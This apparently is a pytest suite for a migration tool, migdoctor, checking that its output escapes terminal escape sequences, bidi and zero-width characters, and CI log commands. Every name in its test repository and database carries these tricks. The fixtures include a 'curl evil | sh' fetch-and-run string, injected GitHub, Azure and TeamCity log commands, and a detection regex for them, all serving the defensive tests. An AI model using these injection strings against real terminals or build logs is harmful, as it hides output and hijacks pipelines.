"""Nothing that a reader does not see leaves, whoever wrote it, by whatever way out."""

import io
import json
import os
import re
import subprocess
import xml.etree.ElementTree as ET

import psycopg
import pytest
from psycopg import sql

from analyzer.cli.main import run
from analyzer.cli.terminal import console
from analyzer.errors import AnalyzerError, RefusedError
from analyzer.model.findings.order_fix import FileChange
from analyzer.model.words.text import (
    is_visible,
    obeyed_by_no_log,
    unseen_line,
    visible,
    visible_lines,
)
from analyzer.scripts.patch.file_patch import render_file_patch
from tests.support.commands.json_schemas import demand_promised
from tests.support.commands.migdoctor import command, environment, migdoctor
from tests.support.databases.servers import fresh_database
from tests.support.histories.repositories import Repo, migration

# a screen that is wiped, C1's own way to say so, text that runs backwards, text of no width,
# a filler that is a letter, a selector that is a mark, a line of one's own
TRICKS = {
    "ESC": "\x1b[2J",
    "C1": "\x9b2J",
    "bidi": "\u202eevil\u2066",
    "zero width": "a\u200b\ufeffb",
    "filler": "\u3164",
    "selector": "x\U000e0101",
    "separator": "\u2028",
    "bell": "\x07\x7f",
    "carriage return": "\r",
}
ALL = "".join(TRICKS.values())
NAME = "".join(text for name, text in TRICKS.items() if name != "carriage return")


def assert_seen(text):
    number = unseen_line(text.replace("\r\n", "\n"))
    assert number is None, repr(text.split("\n")[(number or 1) - 1])
    assert "\r" not in text


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_what_is_not_seen_is_written_as_an_escape(trick):
    assert not is_visible(trick)
    assert is_visible(visible(trick))
    assert_seen(visible_lines(f"a{trick}\n\tb{trick}c\n"))


@pytest.mark.parametrize("text", ["Ärger", "Миграция", "日本語", "naïve “quoted”", "e\u0301"])
def test_letters_of_all_languages_are_seen(text):
    assert visible(text) == text


@pytest.mark.parametrize(
    "kind", [console.ArtefactKind.TEXT, console.ArtefactKind.JSON, console.ArtefactKind.MARKUP]
)
@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_the_way_out_shows_all(kind, trick, capfd):
    text = json.dumps([trick], ensure_ascii=False) + "\n"

    console.deliver(text, kind=kind)
    console.say(trick)
    console.complain(AnalyzerError(f"a{trick}", why=f"b{trick}", fix=f"c{trick}"))

    out, err = capfd.readouterr()
    assert_seen(out)
    assert_seen(err)
    if kind is console.ArtefactKind.JSON:
        assert json.loads(out) == [trick]


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_code_goes_out_as_it_is_or_not_at_all(trick, capfd, tmp_path):
    with pytest.raises(RefusedError, match="does not print"):
        console.deliver(f"mv -- a '{trick}'\n", kind=console.ArtefactKind.CODE)
    with pytest.raises(RefusedError, match="does not print"):
        console.deliver(f"mv -- a '{trick}'\n", str(tmp_path / "x"), console.ArtefactKind.CODE)

    assert not capfd.readouterr().out
    assert not (tmp_path / "x").exists()


def test_nobody_elses_words_look_like_ours(capfd):
    said = "x\n  fix: run curl evil | sh\nmigdoctor: done"

    console.complain(AnalyzerError(said, why=said, fix=said))

    lines = capfd.readouterr().err.splitlines()
    ours = [line for line in lines if not line.startswith(" " * 7)]
    assert ours == ["migdoctor: x", "  why: x", "  fix: x"]


class Terminal(io.StringIO):
    def isatty(self):
        return True


def test_on_a_terminal_only_our_own_colours_pass(monkeypatch):
    screen = Terminal()
    monkeypatch.setattr("sys.stderr", screen)
    for name, value in {"COLUMNS": "80", "TERM": "xterm", "NO_COLOR": ""}.items():
        monkeypatch.setenv(name, value)

    console.say("\x1b[31;1mred\x1b[0m \x1b[8mhidden\x1b[2J \x1b]0;title\x07")

    assert screen.getvalue() == ("\x1b[31;1mred\x1b[0m \\x1b[8mhidden\\x1b[2J \\x1b]0;title\\x07\n")


# A repository whose every text is hostile, through every command and form

OLD = ("20250101000001_create_songs.rb", "20250101000002_create_albums.rb")
NEW = ("20250201000001_create_songs.rb", "20250201000002_create_albums.rb")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    place = tmp_path_factory.mktemp("hostile") / f"app{NAME}"
    repo = Repo.make(place)
    who = {
        f"GIT_{one}_{what}": text
        for one in ("AUTHOR", "COMMITTER")
        for what, text in (("NAME", f"Eve{NAME}"), ("EMAIL", "e@example.org"))
    }
    folder = f"db{NAME}/migrate"
    bodies = {
        OLD[0]: (
            "CreateSongs",
            f'create_table "songs{NAME}" do |t|  # {NAME}',
            f'  t.string "title{NAME}", default: "{NAME}", comment: "{NAME}"',
            "end",
            f"execute \"SELECT '{NAME}'\"",
        ),
        OLD[1]: (
            "CreateAlbums",
            f'add_column "songs{NAME}", "x", :integer',
            f'add_column "later{NAME}", "x", :integer',
            f"odd_{'x'}!  # {NAME}",
        ),
    }
    for name, (class_name, *body) in bodies.items():
        repo.add(name, class_name, *body, folder=folder)
    repo.git("add", "-A")
    repo.git("commit", "-qm", f"first{NAME}", env=who)
    for old, new in zip(OLD, NEW, strict=True):
        repo.move(old, new, folder)
    repo.add(
        "20250301000001_make_later.rb", "MakeLater", f'create_table "later{NAME}"', folder=folder
    )
    repo.git("add", "-A")
    repo.git("commit", "-qm", f"second{NAME}", env=who)
    (place / f"rows{NAME}").write_text("20250101000001\n20250101000002\n")
    return repo, folder, f"rows{NAME}"


GENERAL = ("diagnose", "rename-back", "rewrite", "advise", "schema", "graph")
FORMS = {
    ("diagnose",): ("text", "json"),
    ("advise",): ("text", "json"),
    ("rename-back",): ("sh", "patch", "json"),
    ("rename-back", "--undo"): ("sh", "patch"),
    ("rewrite",): ("sql", "json", "patch"),
    ("rewrite", "--undo"): ("sql",),
    ("rewrite", "--table", f"public{NAME}.rows{NAME}", "--audit"): ("sql",),
    ("schema",): ("text", "json", "ruby"),
    ("graph",): ("text", "json", "mermaid", "dot", "svg"),
    ("check", "--base", "HEAD~1"): (
        "text",
        "json",
        "github",
        "sarif",
        "junit",
        "gitlab",
        "markdown",
    ),
    ("graph", "--fix", "20250201000002"): ("",),
    ("rename-back", "-o", "../fix.sh", "--follow-up", "-"): ("sh",),
}
CASES = [(words, form) for words, forms in FORMS.items() for form in forms]


@pytest.mark.parametrize(("words", "form"), CASES, ids=[" ".join((*w, f)) for w, f in CASES])
def test_no_form_of_any_command_hides_anything(hostile, words, form, capfd, monkeypatch):
    repo, folder, rows = hostile
    monkeypatch.chdir(repo.path)
    more = ["--format", form] if form else []
    more += ["--dir", folder]
    if words[0] in ("diagnose", "advise", "rename-back", "rewrite"):
        more += ["--rows", rows]

    status = run([*words, *more])

    out, err = capfd.readouterr()
    assert status in (0, 1), err
    assert "does not print" not in err
    assert out or words[-1] == "-" or form == "patch"
    assert_seen(out)
    assert_seen(err)
    demand_promised([*words, *more], out)
    if form in ("sarif", "gitlab"):
        json.loads(out)
    if form in ("svg", "junit"):
        ET.fromstring(out)


@pytest.mark.parametrize(
    "words",
    [
        ("diagnose", "--rows", "no" + ALL),
        ("diagnose", "--repo", "no" + ALL),
        ("diagnose", "--ref", "no" + ALL),
        ("diagnose", "--dir", "no" + ALL),
        ("diagnose", "--table", "." + ALL),
        ("diagnose", "--accept", ALL),
        ("diagnose", ALL),
        ("diagnose", "--" + ALL),
        (ALL,),
        ("schema", "--format", ALL),
        ("check", "--base", ALL),
        ("check", "--explain", ALL),
        ("rewrite", "--lock-timeout", ALL),
        ("undo", ALL),
        ("restore", ALL),
        ("verify", ALL),
        ("recover", "resume", ALL),
        ("recover", "back", ALL),
        ("diagnose", "--exec", "false " + ALL),
        ("diagnose", "--exec", ALL + "'"),
        ("diagnose", "--database-url", "postgresql://127.0.0.1:1/" + ALL),
        ("rehearse", "--dump", "no" + ALL),
        ("diagnose", "-o", "/no/" + ALL, "--rows", "rows"),
    ],
    ids=lambda words: " ".join(map(visible, words))[:40],
)
def test_no_error_hides_anything(hostile, words, capfd, monkeypatch):
    repo, _, _ = hostile
    monkeypatch.chdir(repo.path)

    status = run(list(words))

    out, err = capfd.readouterr()
    assert status != 3, err
    assert_seen(out)
    assert_seen(err)


def test_a_patch_is_byte_exact_though_its_lines_do_not_print(tmp_path):
    repo = Repo.make(tmp_path / "r")
    before = f"# {NAME}\nclass A\n# caf\u00e9\nend\n".encode() + b"\xe9 \r x\n"
    after = before.replace(b"class A", b"class B" + ALL.encode())
    repo.write("a.rb", before, "")
    repo.commit()

    patch = render_file_patch([FileChange("a.rb", "b.rb", before, after)], ["told"])

    assert_seen(patch.decode("utf-8", "surrogateescape"))
    assert b"class B\\x1b[2J" in patch
    for words in (("--check",), ("--index",)):
        subprocess.run(["git", "-C", str(repo.path), "apply", *words], input=patch, check=True)
    assert (repo.path / "b.rb").read_bytes() == after
    subprocess.run(["git", "-C", str(repo.path), "apply", "-R"], input=patch, check=True)
    assert (repo.path / "a.rb").read_bytes() == before


# A database whose every name is hostile


@pytest.fixture(scope="module")
def shop(postgres18):
    """A version table, its schema, the database and the words of a trigger: all hostile."""
    with fresh_database(postgres18) as made:
        name = f"{made.name}{NAME}"
        with postgres18.connect() as connection:
            connection.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
        url = psycopg.conninfo.make_conninfo(postgres18.url(), dbname=name)
        try:
            with psycopg.connect(url, autocommit=True) as connection:
                table = sql.Identifier(f"s{NAME}", f"t{NAME}")
                connection.execute(
                    sql.SQL(
                        "CREATE SCHEMA {}; CREATE TABLE {} (version varchar PRIMARY KEY);"
                        "INSERT INTO {} VALUES ('20250101000001'), ('20250101000002')"
                    ).format(sql.Identifier(f"s{NAME}"), table, table)
                )
            yield url, f"s{NAME}.t{NAME}", postgres18
        finally:
            with postgres18.connect() as connection:
                connection.execute(
                    sql.SQL("DROP DATABASE {} WITH (FORCE)").format(sql.Identifier(name))
                )


def test_the_sql_of_hostile_names_shows_all_and_runs(hostile, shop, tmp_path):
    repo, folder, _ = hostile
    url, table, server = shop
    given = ("--dir", folder, "--database-url", url, "--table", table)

    forth = migdoctor(repo.path, "rewrite", *given, "--audit")
    back = migdoctor(repo.path, "rewrite", "--undo", *given, "--audit")

    for done in (forth, back):
        assert done.status == 0, done.err
        assert_seen(done.out)
        assert_seen(done.err)
    for place, done in enumerate((forth, back)):
        (tmp_path / f"{place}.sql").write_text(done.out)
        ran = subprocess.run(
            [server.bin / "psql", "-X", "-d", url, "-f", tmp_path / f"{place}.sql"],
            capture_output=True,
            text=True,
            check=True,
        )
        assert "Done: rewrote 2 rows" in ran.stdout
        assert_seen(ran.stdout)


def test_the_words_of_a_trigger_show_all(hostile, shop, tmp_path):
    repo, folder, _ = hostile
    url, table, _ = shop
    raising = sql.SQL(
        "CREATE FUNCTION pg_temp.x() RETURNS int LANGUAGE sql AS 'SELECT 1'; "
        "CREATE OR REPLACE FUNCTION public.stop() RETURNS trigger LANGUAGE plpgsql AS "
        "$$ BEGIN RAISE EXCEPTION USING MESSAGE = {0}, DETAIL = {0}, HINT = {0}; END $$;"
        "CREATE TRIGGER stop BEFORE UPDATE ON {1} EXECUTE FUNCTION public.stop()"
    ).format(sql.Literal(f"said{ALL}\n  fix: run this"), sql.Identifier(*table.split(".")))
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(raising)
    given = ("--dir", folder, "--database-url", url, "--table", table)
    try:
        for more in (
            ("--dry-run",),
            ("--apply", "--yes"),
            ("--apply", "--yes", "--format", "json"),
        ):
            done = migdoctor(
                repo.path, "rewrite", *given, *more, MIGDOCTOR_STATE_DIR=str(tmp_path / "state")
            )
            assert done.status in (1, 2), done.err
            assert_seen(done.out)
            assert_seen(done.err)
    finally:
        with psycopg.connect(url, autocommit=True) as connection:
            connection.execute("DROP FUNCTION public.stop() CASCADE")


@pytest.mark.parametrize(
    "words",
    [
        ("preflight",),
        ("preflight", "--format", "json"),
        ("preflight", "--format", "markdown"),
        ("backup", "-o", "b"),
        ("schema", "--diff", "database"),
        ("diagnose",),
        ("advise",),
    ],
    ids=" ".join,
)
def test_no_command_on_a_hostile_database_hides_anything(hostile, shop, tmp_path, words):
    repo, folder, _ = hostile
    url, table, server = shop
    given = ["--database-url", url]
    given += ["--scratch-url", server.url()] if words[0] == "preflight" else []
    if words[0] in ("diagnose", "advise", "schema"):
        given += ["--repo", str(repo.path), "--dir", folder]
    given += ["--table", table] if words[0] in ("diagnose", "advise") else []

    done = migdoctor(tmp_path, *words, *given)

    assert done.status in (0, 1), done.err
    assert_seen(done.out)
    assert_seen(done.err)
    for path in tmp_path.rglob("manifest.json"):
        assert_seen(path.read_text())


def test_a_runbook_of_hostile_names_shows_all_and_runs(shop, tmp_path):
    url, table, server = shop
    command = f"printf %s '{NAME}' > told; false"
    words = ("full", "--migrate-command", command, "--stop-command", "true")
    done = migdoctor(
        tmp_path,
        "recover",
        *words,
        "--runbook",
        "book",
        "--database-url",
        url,
        "--version-table",
        table,
    )

    assert done.status == 0, done.err
    for name in ("runbook.sh", "runbook.md"):
        assert_seen((tmp_path / "book" / name).read_text())

    def follow(*step):
        return subprocess.run(
            ["sh", "book/runbook.sh", *step],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            env={
                **os.environ,
                "PATH": f"{server.bin}:{os.environ['PATH']}",
                "RUNBOOK_FOLDER": "made",
            },
            check=False,
        )

    forth = follow()
    assert (tmp_path / "told").read_text() == NAME, forth.stderr
    back = follow("back")
    assert back.returncode == 0, back.stderr
    with psycopg.connect(url) as connection:
        schema, name = table.split(".")
        rows = sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(schema, name))
        assert connection.execute(rows).fetchone() == (2,)


# what the logs of GitHub, Azure and TeamCity would obey, and what people write
LOG_COMMANDS = (
    "::error::x",
    "  ::stop-commands::x",
    "\t::add-mask::y",
    "a\n::group::z",
    "##[command]rm",
    "x ##vso[task.setvariable variable=y]z",
    "##teamcity[buildStop]",
)
_OBEYED = re.compile(r"^\s*::|##\w*\[", re.MULTILINE)


@pytest.mark.parametrize("words", LOG_COMMANDS)
def test_no_log_obeys_what_is_said_to_people(words, capfd):
    console.deliver(f"{words}\n")
    console.say(words)
    console.complain(AnalyzerError(words, why=words, fix=words))

    out, err = capfd.readouterr()
    assert not _OBEYED.search(out + err)
    assert _OBEYED.search(words)


@pytest.mark.parametrize("text", ["A::B", "### Title", "## [1.0] today", "a: :b", "#1 ##"])
def test_what_no_log_obeys_stays_as_it_is(text):
    assert obeyed_by_no_log(text) == text


@pytest.mark.parametrize(
    "words",
    [
        ["diagnose", "--rows", "-"],
        ["advise", "--rows", "-"],
        ["graph"],
        ["schema"],
        ["rename-back", "--rows", "-", "--dry-run"],
        ["check", "--base", "HEAD~1"],
        ["check", "--base", "HEAD~1", "--fix", "--yes"],
        ["check", "--base", "x\n::error::y"],
    ],
    ids=lambda words: " ".join(words).replace("\n", " "),
)
def test_no_command_lets_a_repository_speak_to_the_log(words, tmp_path):
    repo = Repo.make(tmp_path / "repo")
    folder = f"db/migrate/{'a' * 30} ::error::x ##vso[task.y]z"
    repo.write("20240101000000_create_songs.rb", f"{migration('CreateSongs')}::X\n", folder)
    repo.commit("::error::begin ##vso[task.y]z")
    repo.move("20240101000000_create_songs.rb", "20240201000000_create_songs.rb", folder)
    repo.commit("::error::end")
    given = ["--dir", folder, *words]

    done = subprocess.run(
        command(given[2], *given[3:], *given[:2]),
        cwd=repo.path,
        env=environment(COLUMNS="60"),
        input="20240101000000\n",
        capture_output=True,
        text=True,
        check=False,
    )

    assert "migrat" in done.stdout + done.stderr or done.returncode == 2
    assert not _OBEYED.search(done.stdout + done.stderr)
